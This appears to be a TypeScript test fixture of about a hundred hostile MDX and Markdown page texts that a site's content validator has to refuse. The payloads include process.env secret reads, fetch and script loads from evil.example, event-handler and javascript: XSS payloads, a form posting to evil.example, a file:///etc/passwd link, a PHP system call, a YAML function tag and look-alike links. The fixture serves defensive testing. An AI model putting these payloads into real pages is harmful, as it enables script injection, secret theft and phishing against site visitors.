/** A page of content that must be refused, and the line of its text, from 1, that says why. */
export interface Hostile {
	name: string;
	text: string;
	line: number;
}

/** One hostile text each: refused on its first line, or on the one that `@` gives. `⏎` stands for a new line. */
const texts = String.raw`
an import ¦ import fs from 'node:fs'
an import for its effect ¦ import './x.js'
a dynamic import ¦ {import('node:fs')}
an import below words ¦ import { readFileSync } from 'fs'⏎⏎Words.
an exported value ¦ export const x = 1
an exported layout ¦ export default ({ children }) => children
an exported function ¦ export async function getStaticPaths() { return [] }
an export of everything ¦ export * from './secret.ts'
the environment ¦ {process.env}
a secret in a sentence ¦ The key is {process.env.SECRET}.
a request to elsewhere ¦ {fetch('https://evil.example/')}
a request while building ¦ {await fetch('https://evil.example/')}
a sum ¦ It costs {1 + 1} pounds.
an empty expression ¦ {}
a remark in braces ¦ {/* a remark */}
braces written as entities ¦ The key is &#x7b;process.env.SECRET&#x7d; {x}
a brace left open ¦ Words { and more
a brace left over ¦ Words } and more
a template ¦ {${'`'}a${'`'}}
a function that is called at once ¦ {(() => { while (true) {} })()}
spread props ¦ <Callout {...props}>⏎⏎Words.⏎⏎</Callout>
a prop that is an expression ¦ <PhoneLine id={process.env.ID} />
a prop that is a sum ¦ <Quotation source={1 + 1}>⏎Words.⏎</Quotation>
a prop that is markup ¦ <Quotation source={<b>x</b>}>⏎Words.⏎</Quotation>
a handler on a component ¦ <Callout onclick="alert(1)">⏎Words.⏎</Callout>
a handler in Preact's way ¦ <Callout onClick={() => alert(1)}>⏎Words.⏎</Callout>
a style on a component ¦ <Callout style="position:fixed">⏎Words.⏎</Callout>
a class on a component ¦ <Callout class="hidden">⏎Words.⏎</Callout>
raw HTML through a directive ¦ <Callout set:html="<script>x</script>" />
a slot ¦ <Callout slot="x">⏎Words.⏎</Callout>
a client directive ¦ <Callout client:load>⏎Words.⏎</Callout>
an unknown component ¦ <Video src="x" />
a component of Astro ¦ <Image src="x" />
a member of an object ¦ <props.components.Callout />
a namespace ¦ <svg:script />
a fragment ¦ <>⏎Words.⏎</>
a script ¦ <script>alert(1)</script>
a script from elsewhere ¦ <script src="https://evil.example/x.js"></script>
a script in capital letters ¦ <SCRIPT>alert(1)</SCRIPT>
a module ¦ <script type="module">import 'x'</script>
a frame ¦ <iframe src="https://evil.example/"></iframe>
a frame with its page inside ¦ <iframe srcdoc="&lt;script&gt;" />
a form to elsewhere ¦ <form action="https://evil.example/"><input name="phone" /></form>
a button that sends elsewhere ¦ <button formaction="https://evil.example/">Send</button>
a picture that counts ¦ <img src="//evil.example/pixel.gif" alt="" />
a picture with a handler ¦ <img src="x" onerror="alert(1)" />
an image of SVG with a script ¦ <svg><script>alert(1)</script></svg>
an image of SVG with a handler ¦ <svg onload="alert(1)" />
an object ¦ <object data="https://evil.example/x" />
an embedded file ¦ <embed src="https://evil.example/x" />
a video ¦ <video src="https://evil.example/x.mp4" autoplay />
a style sheet ¦ <link rel="stylesheet" href="https://evil.example/x.css" />
a style block ¦ <style>body display: none</style>
a refresh ¦ <meta http-equiv="refresh" content="0;url=https://evil.example/" />
a base ¦ <base href="https://evil.example/" />
a portal over the page ¦ <div style="position:fixed;inset:0">Call us</div>
an inline style ¦ Words <span style="color:red">in red</span>.
a link in HTML ¦ <a href="https://evil.example/" onclick="x()">Words</a>
details ¦ <details open ontoggle="alert(1)">x</details>
a template in HTML ¦ <template><script>1</script></template>
maths with markup inside ¦ <math><mtext><script>1</script></mtext></math>
a remark in HTML ¦ <!-- The real number is secret -->
a half remark ¦ Words <!-- and more
a declaration ¦ <!DOCTYPE html>
a processing instruction ¦ <?php system('ls') ?>
a section of characters ¦ <![CDATA[<script>1</script>]]>
a tag left open ¦ <Callout>⏎Words.
a tag closed alone ¦ Words.</Callout>
tags that cross, told where the wrong one closes @4 ¦ <Callout>⏎<Quotation source="x">⏎Words.⏎</Callout>⏎</Quotation>
a component inside a line ¦ Words <Callout>more</Callout>.
a line that does not exist ¦ <PhoneLine id="nobody" />
a line with words inside ¦ <PhoneLine id="samaritans">Call 116 123</PhoneLine>
a link that runs ¦ [Help](javascript:alert(1))
a link that runs, as an entity ¦ [Help](java&#115;cript:alert(1))
a link that runs, in capitals ¦ [Help](JaVaScRiPt:alert(1))
a link that runs, with a tab ¦ [Help](<java	script:alert(1)>)
a link that runs, defined below ¦ [Help][x]⏎⏎[x]: javascript:alert(1)
a link that holds a page ¦ [Help](data:text/html;base64,PHNjcmlwdD4=)
a link to a program ¦ [Help](vbscript:msgbox(1))
a link to a file ¦ [Help](file:///etc/passwd)
a link without a lock ¦ [Help](http://example.org/)
a link without a scheme ¦ [Help](//evil.example/)
a link with backslashes ¦ [Help](/\evil.example/)
a link with a password ¦ [Help](https://www.gov.uk@evil.example/)
a link to a number ¦ [Help](https://203.0.113.5/)
a link to a door of a host ¦ [Help](https://example.org:8443/)
a link in letters that look alike ¦ [Help](https://gоv.uk/)
a link that is shortened ¦ [Help](https://bit.ly/3abc)
a link through a mail program ¦ [Help](https://eur01.safelinks.protection.outlook.com/?url=x)
a link that counts ¦ [Help](https://example.org/?utm_source=x)
a link that shows another address ¦ [www.gov.uk](https://evil.example/)
a link with no words ¦ [](https://example.org/)
a link to a number to call ¦ [Call](tel:+441632960001)
a link that writes a text ¦ [Text](sms:07700900001)
a bare address ¦ See http://www.evil.example/x for more.
a picture from elsewhere ¦ ![A worker](https://evil.example/x.png)
a picture that is its own data ¦ ![A worker](data:image/png;base64,AAAA)
a picture without words ¦ ![](/media/centre.jpg)
a picture that is named by its file ¦ ![IMG_2034.jpg](/media/centre.jpg)
a picture that can run ¦ ![A map](/media/map.svg)
a number in words ¦ Call us on 01632 960 001.
a number with brackets ¦ Call us on +44 (0)1632 960001.
a number with marks between ¦ Call us on 01632 **960** 001.
a number as entities ¦ Call us on &#48;1632 960 001.
a number in wide digits ¦ Call us on ０１６３２ ９６０ ００１.
a short number of the register ¦ Call Samaritans on 116 123.
a line of code ¦ Type ${'`'}x${'`'}.
a block of code ¦ ${'```'}js⏎alert(1)⏎${'```'}
letters turned round ¦ The number is ‮100 069 23610‬.
letters that nobody sees ¦ This is safe​ly hidden.
a note at the foot ¦ Words.[^1]⏎⏎[^1]: More.
`;

const head = (slug: string) =>
	`---\nslug: ${slug}\ntitle: A page\nsummary: One sentence.\nowner: Content editor\n---\n\n`;

/** Whole files, whose facts are what is wrong. */
const files: [name: string, line: number, text: string][] = [
	[
		'an anchor and an alias',
		3,
		'---\nslug: x\ntitle: &a A page\nsummary: *a\nowner: Editor\n---\n\nWords.\n',
	],
	[
		'a tag of YAML',
		3,
		'---\nslug: x\ntitle: !!js/function "x"\nsummary: One.\nowner: Editor\n---\n\nWords.\n',
	],
	[
		'a field twice',
		4,
		'---\nslug: x\ntitle: A page\ntitle: Another\nsummary: One.\nowner: Editor\n---\n\nWords.\n',
	],
	[
		'a prototype',
		3,
		'---\nslug: x\n__proto__: { a: 1 }\ntitle: A\nsummary: One.\nowner: Editor\n---\n\nWords.\n',
	],
	[
		'a layout',
		3,
		'---\nslug: x\nlayout: ../../src/layouts/Page.astro\ntitle: A\nsummary: One.\nowner: Editor\n---\n\nWords.\n',
	],
	['facts in TOML', 1, '+++\nslug = "x"\n+++\n\nWords.\n'],
	['facts that do not end', 1, '---\nslug: x\ntitle: A page\n\nWords.\n'],
	['words before the facts', 1, 'Words.\n---\nslug: x\n---\n'],
	['a second block of facts', 10, `${head('x')}Words.\n\n---\nlayout: x\n---\n\nWords.\n`],
];

/** Pages that must be refused. */
export const hostile: Hostile[] = [
	...texts
		.trim()
		.split('\n')
		.map((row) => row.split(' ¦ '))
		.map(([name = '', body = ''], index) => ({
			name: name.replace(/ @\d$/, ''),
			text: `${head(`hostile-${index}`)}${body.replaceAll('⏎', '\n')}\n`,
			line: 7 + Number(/@(\d)$/.exec(name)?.[1] ?? 1),
		})),
	...files.map(([name, line, text]) => ({ name, line, text })),
];
